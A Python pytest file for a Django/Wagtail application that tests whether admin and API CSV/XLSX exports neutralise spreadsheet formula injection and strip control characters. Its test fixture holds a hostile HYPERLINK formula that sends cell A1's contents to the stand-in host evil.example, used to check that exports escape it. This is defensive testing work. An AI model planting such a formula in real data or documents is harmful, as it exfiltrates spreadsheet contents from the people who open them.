"""Formula injection: every Wagtail admin export (list_export, CSV and XLSX) writes text that
starts with = + - @ (or a tab / CR) with a leading apostrophe, as the API exports do
(``npshub.spreadsheet``, one rule); control characters an XLSX file cannot hold are dropped."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from npshub.spreadsheet import safe_cell
from tests import factories as f

pytestmark = pytest.mark.django_db

HOSTILE = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"
SAFE = "'" + HOSTILE


def export(client, model, fmt):
    url = reverse(f"{model._meta.app_label}_{model._meta.model_name}_modeladmin_index")
    answer = client.get(url, {"export": fmt})
    assert answer.status_code == 200
    body = b"".join(answer.streaming_content) if answer.streaming else answer.content
    if fmt == "csv":
        return list(csv.reader(io.StringIO(body.decode("utf-8"))))
    sheet = load_workbook(io.BytesIO(body)).active
    return [[("" if cell is None else cell) for cell in row] for row in sheet.iter_rows(values_only=True)]


def cells(rows):
    return {value for row in rows[1:] for value in row if isinstance(value, str)}


def _response():
    from npshub.feedback.models import Response

    response = f.response(score=2, comment=HOSTILE)
    Response.objects.filter(pk=response.pk).update(comment_masked=HOSTILE)
    return Response


def _kudos():
    from rewards.models import Kudos

    Kudos.objects.create(giver=f.user("employee"), receiver=f.user("employee"), message=HOSTILE)
    return Kudos


def _ledger():
    from rewards import ledger
    from rewards.models import LedgerEntry

    ledger.credit(f.user("employee"), 10, HOSTILE)
    return LedgerEntry


def _team():
    from npshub.people.models import Team

    f.team(name=HOSTILE)
    return Team


def _audit():
    from callbacks.models import AuditLog

    AuditLog.objects.create(actor=HOSTILE, action="viewed_contact", object_type="callback", object_id="1")
    return AuditLog


@pytest.mark.parametrize("make", [_response, _kudos, _ledger, _team, _audit],
                         ids=["responses", "kudos", "ledger", "teams", "callback-audit"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_admin_export_neutralises_a_formula(client, make, fmt):
    model = make()
    client.force_login(f.superuser())
    rows = export(client, model, fmt)
    assert SAFE in cells(rows)
    assert HOSTILE not in cells(rows)


def test_admin_xlsx_export_drops_control_characters_instead_of_failing(client):
    from rewards.models import Kudos

    Kudos.objects.create(giver=f.user("employee"), receiver=f.user("employee"), message="thanks\x07 for\x1b all")
    client.force_login(f.superuser())
    assert "thanks for all" in cells(export(client, Kudos, "xlsx"))
    assert "thanks\x07 for\x1b all" in cells(export(client, Kudos, "csv"))


@pytest.mark.parametrize("value,expected", [
    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("plain", "plain"), ("", ""), (-5, -5), (None, None),
])
def test_the_one_cell_rule(value, expected):
    assert safe_cell(value) == expected


def test_stats_xlsx_export_with_control_characters_in_a_filter_is_a_file_not_a_500():
    """Found by the API fuzzer: filter values are written to the workbook's filters sheet."""
    admin = f.user("cx_admin")
    answer = f.api(admin).get("/api/v1/nps/export/", {"view": "summary", "format": "xlsx", "segment": "\x17=x"})
    assert answer.status_code == 200
    about = load_workbook(io.BytesIO(answer.content))["filters"]
    assert ("segment", "'=x") in list(about.iter_rows(values_only=True))
